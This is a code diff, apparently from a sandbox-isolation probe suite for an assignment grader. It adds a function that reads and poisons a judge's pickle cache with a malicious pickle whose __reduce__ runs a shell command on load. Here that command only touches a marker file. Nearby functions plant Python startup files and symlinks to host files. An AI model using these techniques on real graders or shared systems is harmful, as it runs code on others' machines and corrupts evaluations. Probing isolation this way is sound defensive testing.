@@ -382,6 +382,30 @@ def read_grader_files(root: Path) -> str:
     return attack(PROBE + "\n".join(lines) + '\nprint("GRADER: " + json.dumps(_report))\n')
 
 
+def poison_judge_cache(root: Path) -> str:
+    """Goes for the judge's kept reference namespace (``<root>/.judge-cache/``, loaded with
+    pickle by the next judge of the assignment): lists and reads it, and writes a pickle that
+    would run code on load, under the names the next judge would look for."""
+    cache = root / ".judge-cache"
+    evil = (
+        "__import__('pickle').dumps(type('E', (), {'__reduce__': lambda s: "
+        f"(__import__('os').system, ('touch /tmp/{MARK}-judge-cache',))}})())"
+    )
+    return attack(
+        PROBE
+        + f"""
+_cache = {str(cache)!r}
+_try("list", lambda: os.listdir(_cache))
+_try("read", lambda: [_read(os.path.join(_cache, n)) for n in os.listdir(_cache)])
+_try("make folder", lambda: os.makedirs(_cache))
+_try("plant", lambda: open(os.path.join(_cache, "{M0}-" + "0" * 24 + ".pkl"), "wb").write({evil}))
+_try("replace", lambda: [open(os.path.join(_cache, n), "wb").write({evil})
+                         for n in os.listdir(_cache)])
+print("CACHE: " + json.dumps(_report))
+"""
+    )
+
+
 def plant_for_classmates(root: Path) -> str:
     """Writes IPython startup files, sitecustomize.py and usercustomize.py into every folder it
     can write, and symlinks from the sandbox to host files the grader might follow."""
